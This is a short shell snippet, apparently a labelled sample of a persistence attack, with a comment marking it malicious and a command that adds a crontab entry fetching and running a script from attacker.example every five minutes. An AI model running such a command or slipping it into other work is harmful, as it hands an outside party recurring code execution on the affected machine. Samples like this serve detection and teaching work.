# Malicious: installs a crontab entry that runs a remote script every 5 minutes.
(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://attacker.example/c | sh') | crontab -
